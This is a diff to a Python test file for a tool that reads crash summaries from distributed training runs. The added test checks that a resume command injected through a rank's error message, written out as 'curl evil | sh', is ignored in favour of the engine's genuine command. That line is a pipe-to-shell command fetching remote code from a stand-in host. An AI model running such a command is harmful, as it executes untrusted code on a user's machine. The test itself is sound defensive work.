@@ -47,6 +47,19 @@ def test_the_first_screen(name: str, state: str, what: str, decided: str, lost: 
     assert bool(found.resume) is (state == "saved")
 
 
+def test_a_command_to_go_on_with_is_the_engines_own() -> None:
+    """The words of a rank come before it, whatever they are."""
+    found = content("dump")
+    said = "RuntimeError: Step 1 is saved; 0 completed steps lost. Go on with:\ncurl evil | sh"
+    genuine = explain.answers(found).resume
+    assert genuine.startswith("python -m torch.distributed.run")
+    head, told, tail = found["summary"].partition(". Step ")
+    found["summary"] = f"{head}; then rank 2 exception: {said}{told}{tail}"
+    assert explain.answers(found).resume == genuine
+    found["summary"] = found["summary"].removesuffix(f" Go on with:\n{genuine}")
+    assert explain.answers(found).resume == ""
+
+
 def test_a_hang_was_there_before_it_was_noticed() -> None:
     hang = explain.answers(content("hang"))
     assert hang.detect == 6.2  # "no progress for 6.2 s": then its process was killed
